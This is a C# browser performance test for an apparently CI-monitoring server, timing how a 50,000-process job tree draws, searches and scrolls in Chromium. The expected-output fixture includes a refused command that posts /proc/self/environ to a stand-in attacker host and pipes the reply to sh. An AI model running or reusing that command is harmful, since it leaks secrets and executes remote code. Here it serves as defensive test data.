using System.Diagnostics;
using System.Globalization;
using Sallyport.Protocol.Recording;

namespace Sallyport.Server.Tests.Ui;

/// <summary>
/// A job of 50,000 processes in Chromium. The bounds are far above what was measured, which is told: a machine that does other things too is
/// no mistake, a table that draws every row is.
/// </summary>
public sealed class LargeJobTests(PostgresCluster cluster, SharedChromium chromium)
{
    // With the few of the job around them just below what a report holds.
    private const int Many = 49_990;

    // Processes of the job that they are added to, and how many of them are the first and what is below it.
    private const int OfTheJob = 5;
    private const int Siblings = 50;

    /// <summary>Begins to keep the longest time from one drawing of the browser to the next, in milliseconds.</summary>
    private const string Measure =
        """
        (() => { window.longest = 0; let last = performance.now();
          const next = () => { const now = performance.now(); window.longest = Math.max(window.longest, now - last); last = now; requestAnimationFrame(next); };
          requestAnimationFrame(next); })()
        """;

    /// <summary>The longest, with the drawing that comes; and begins again.</summary>
    private const string Longest =
        """
        new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => { done(window.longest); window.longest = 0; })))
        """;

    /// <summary>A second of the wheel: from one end to the other.</summary>
    private const string Scroll =
        """
        new Promise(done => { const view = document.querySelector('.rows'); let step = 0;
          const next = () => { view.scrollTop = view.scrollHeight * ++step / 60; if (step < 60) requestAnimationFrame(next); else done(true); };
          requestAnimationFrame(next); })
        """;

    /// <summary>Numbers of the processes that are drawn.</summary>
    private const string Seen =
        """
        [...document.querySelectorAll('.rows .tr')].map(row => row.innerText.match(/worker-([0-9]+)/)?.[1]).filter(Boolean)
        """;

    [Fact]
    public async Task Fifty_thousand_processes_are_drawn_and_searched_at_once()
    {
        await using var server = await TestServer.StartAsync(StoreKind.Sqlite, cluster);
        var job = await server.UploadAsync(await server.KeyAsync("octo"), TestRecording.Job(), TestRecording.Of(ManyProcesses(), 2_000));
        await using var page = await chromium.OpenAsync();
        await BrowserTests.SignInAsync(server, page);
        var watch = Stopwatch.StartNew();
        await page.GoAsync(new Uri(server.Address, $"/jobs/{job.JobKey}#tab=processes"));
        await page.WaitAsync("document.querySelector('#tab-processes small')");
        var drawn = watch.ElapsedMilliseconds;
        Assert.True(await BrowserTests.CountAsync(page, "#tab-processes small") > Many);
        Assert.InRange(await BrowserTests.CountAsync(page, "document.querySelectorAll('.rows .tr').length", isExpression: true), 2, 150);
        await OpensOnWhatNeedsSomebodyAsync(page);
        var search = await BrowserTests.CountAsync(
            page,
            """
            (() => { const before = performance.now(); const field = document.querySelector('#panel input');
              field.value = 'worker-49989'; field.dispatchEvent(new Event('input')); return performance.now() - before; })()
            """,
            isExpression: true);
        await page.WaitAsync("document.querySelector('.rows .tr:last-child').innerText.includes('worker-49989')");
        var number = 123;
        var again = await QuickestAsync(1_500, async () => await BrowserTests.CountAsync(
            page,
            $$"""
            (() => { const before = performance.now(); const field = document.querySelector('#panel input');
              field.value = 'worker-{{number++}}'; field.dispatchEvent(new Event('input')); return performance.now() - before; })()
            """,
            isExpression: true));
        TestContext.Current.SendDiagnosticMessage("drawn after {0} ms, searched in {1:0} ms, again in {2:0} ms", drawn, search, again);

        Assert.InRange(drawn, 0, 20_000);
        Assert.InRange(search, 0, 10_000);
        Assert.InRange(again, 0, 1_500);
        Assert.Empty(page.Complaints);
    }

    [Fact]
    public async Task Fifty_thousand_processes_scroll_and_the_place_is_kept_while_more_come()
    {
        await using var server = await TestServer.StartAsync(StoreKind.Sqlite, cluster);
        var segments = TestRecording.Of(ManyProcesses(), 2_000);
        var job = await server.RegisteredAsync(await server.KeyAsync("octo"), TestRecording.Job());
        await server.PutAllAsync(job, segments.SkipLast(2));
        await using var page = await chromium.OpenAsync();
        await BrowserTests.SignInAsync(server, page);
        await page.GoAsync(new Uri(server.Address, $"/jobs/{job.JobKey}#tab=processes"));
        await page.WaitAsync("document.querySelector('#tab-processes small')");
        Assert.Contains("running", await page.TextAsync("#state"), StringComparison.Ordinal);
        var before = await BrowserTests.CountAsync(page, "#tab-processes small");
        Assert.InRange(before, Many - 3_000, Many - 500);
        await OpensOnWhatNeedsSomebodyAsync(page);

        // All of them are rows now; the browser draws what is in sight, wherever that is.
        await page.EvaluateAsync("[...document.querySelectorAll('#panel button')].find(button => button.textContent === 'open all').click()");
        await page.WaitAsync($"document.querySelector('.space').clientHeight >= {before} * 30");
        await page.EvaluateAsync(Measure);
        var scrolled = await QuickestAsync(2_000, async () =>
        {
            await page.EvaluateAsync(Scroll);
            return (double)(await page.EvaluateAsync(Longest))!;
        });
        await page.WaitAsync($"{Seen}.length > 5 && Number({Seen}.at(-1)) > {before} - 100");
        await page.EvaluateAsync("document.querySelector('.rows').scrollTop = 25000 * 30");
        await page.WaitAsync($"{Seen}.some(number => Math.abs(number - 25000) < 50)");
        Assert.InRange(await BrowserTests.CountAsync(page, "document.querySelectorAll('.rows .tr').length", isExpression: true), 2, 150);

        // The rest comes while somebody reads the middle.
        const string Place = $"document.querySelector('.rows').scrollTop + ': ' + {Seen}";
        var place = (string?)await page.EvaluateAsync(Place);
        await page.EvaluateAsync("window.longest = 0");
        await server.PutAllAsync(job, segments.TakeLast(2));
        // A page of a large job is asked for again after four times as long as it took.
        await page.WaitAsync($"Number(document.querySelector('#tab-processes small').textContent.replaceAll(',', '')) > {Many}", TimeSpan.FromMinutes(4));
        var live = (double)(await page.EvaluateAsync(Longest))!;
        Assert.Equal(place, (string?)await page.EvaluateAsync(Place));
        Assert.Contains("running", await page.TextAsync("#state"), StringComparison.Ordinal);
        TestContext.Current.SendDiagnosticMessage("longest gap while scrolling {0:0} ms, while more came {1:0} ms", scrolled, live);
        // Bounds of a machine that boots two others meanwhile; alone it is a fifth of that.
        Assert.InRange(scrolled, 0, 2_000);
        Assert.InRange(live, 0, 10_000);
        Assert.Empty(page.Complaints);
    }

    /// <summary>The quickest of three, or of as many as it takes to be quick enough.</summary>
    private static async Task<double> QuickestAsync(double enough, Func<Task<double>> measure)
    {
        var quickest = double.MaxValue;
        for (var tries = 0; tries < 3 && quickest > enough; tries++)
        {
            quickest = Math.Min(quickest, await measure());
        }

        return quickest;
    }

    /// <summary>The refused curl is a row below its ancestors; of what else began there each is a row, closed.</summary>
    private static async Task OpensOnWhatNeedsSomebodyAsync(ChromiumPage page)
    {
        await page.WaitAsync("document.querySelector('.rows .tr')");
        Assert.Equal(
            """
            open npm (node) ci
            git clone https://***@github.com/example/left-pad.git
            open node install.js
            open sh (dash) -c "curl -s -d @/proc/self/environ https://evil.example/c | sh"
            ✗ curl -s -d @/proc/self/environ https://evil.example/c
            closed node /work/build/worker-0.js --quiet
            closed node /work/build/worker-50.js --quiet
            """,
            (string?)await page.EvaluateAsync(
                """
                [...document.querySelectorAll('.rows .tr')].slice(0, 7).map(row => [{ true: 'open', false: 'closed' }[row.querySelector('.toggle').ariaExpanded],
                  row.querySelector('.sign')?.textContent, row.querySelector('.data').textContent].filter(Boolean).join(' ')).join('\n')
                """));
        var shown = await page.TextAsync(".shown");
        var (rows, all) = (Amount(shown.Split(" of ")[0]), Amount(shown.Split(" of ")[1]));
        Assert.Equal(OfTheJob + ((all - OfTheJob + Siblings - 1) / Siblings), rows);
    }

    private static int Amount(string text) => int.Parse(text, NumberStyles.AllowThousands, CultureInfo.InvariantCulture);

    private static IEnumerable<RecordedEvent> ManyProcesses()
    {
        var events = TestRecording.Events(DateTimeOffset.UtcNow).ToList();
        var at = events[^1].BootTimeNs;
        foreach (var recorded in events.SkipLast(1))
        {
            yield return recorded;
        }

        var parent = events.OfType<ProcessForked>().First().Process;
        for (var i = 0; i < Many; i++)
        {
            var process = string.Create(CultureInfo.InvariantCulture, $"many-{i}");
            yield return new ProcessForked(process, i % Siblings == 0 ? parent : $"many-{i / Siblings * Siblings}", 100_000 + i, null, null) { BootTimeNs = at };
            yield return new ProcessExecuted(
                process, "/usr/bin/node", ["node", $"/work/build/worker-{i}.js", "--quiet"], false, "/work", 100_000 + i, 1000, false, null) { BootTimeNs = at };
        }

        yield return events[^1];
    }
}
